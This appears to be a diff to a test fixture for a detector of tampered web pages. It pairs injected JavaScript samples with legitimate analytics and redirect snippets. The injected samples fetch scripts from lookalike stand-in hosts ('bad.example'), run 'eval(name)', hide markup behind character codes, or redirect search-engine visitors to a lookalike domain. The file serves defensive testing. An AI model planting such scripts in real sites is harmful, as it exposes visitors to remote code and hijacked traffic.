@@ -109,6 +109,25 @@ TOLD_AT_FIRST = {
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
+    "a counter that is not the vendor's": script(
+        "var p='http://';document.write(unescape(\"%3Cscript src='\""
+        '+p+"hm.baidu.com.bad.example/h.js\'%3E%3C/script%3E"))'
+    ),
+    "a vendor's counter with a program of its own": script(
+        "var p='http://';document.write(unescape(\"%3Cscript src='\"+p+\"hm.baidu.com/h.js'%3E%3C/script%3E"
+        '%3Cscript%3Eeval(name)%3C/script%3E"))'
+    ),
+    "a vendor's counter and another": script(
+        "var p='http://';document.write(unescape(\"%3Cscript src='\"+p+\"hm.baidu.com/h.js'%3E%3C/script%3E"
+        '%3Cscript src=\'"+p+"tj.bad.example/h.js\'%3E%3C/script%3E"))'
+    ),
+    "a code beside an alphabet": script(
+        "var c=[60,98,62],s='';for(var i=0;i<3;i++){s+=String.fromCharCode(c[i])}"
+        "String.fromCharCode(65+i);document.write(s)"
+    ),
+    "searchers' visitors, sent on by a name that goes on": script(
+        "var r=document.referrer,x='.bad.example';if(r.indexOf('baidu')>0){location.replace('http://www.yunshan.gov.cn'+x)}"
+    ),
     "notice elsewhere": put("<a href='http://a.bad.example/'>关于开展2026年度职称评审的通知</a>"),
     "mobile for the office": PAGE.replace("0795-6126655", "17099990431"),
     "another town": PAGE.replace("0795-6126655", "0592-6126655"),
@@ -118,6 +137,24 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "a vendor's counter as it was handed on for years": script(
+        'var p=(("https:"==document.location.protocol)?" https://":" http://");'
+        'document.write(unescape("%3Cscript src=\'"'
+        "+p+\"hm.baidu.com/h.js%3Fab12' type='text/javascript'%3E%3C/script%3E\"));"
+    ),
+    "another vendor's, with a place for its picture": script(
+        'var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");'
+        "document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E"
+        '%3Cscript src=\'"+cnzz_protocol+"s11.cnzz.com/z_stat.php%3Fid%3D1\'%3E%3C/script%3E"));'
+    ),
+    "an alphabet to look things up by": script(
+        "var s='';for(var i=0;i<26;i++){s+='<a href=\"/az.html?c='+String.fromCharCode(65+i)+'\">'"
+        "+String.fromCharCode(65+i)+'</a>'}document.getElementById('az').innerHTML=s"
+    ),
+    "counts who comes by a searcher, and leads to its own new address": script(
+        "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){document.cookie='from=search;path=/'}"
+        "if(location.hostname=='yunshan.gov.cn'){location.replace('http://www.yunshan.gov.cn'+location.pathname)}"
+    ),
     "own decoder of an address": script(
         "(function(d,k){if(!window.atob)return;var a=d.createElement('a');a.href='mailto:'+window.atob(k);"
         "d.body.appendChild(a)})"
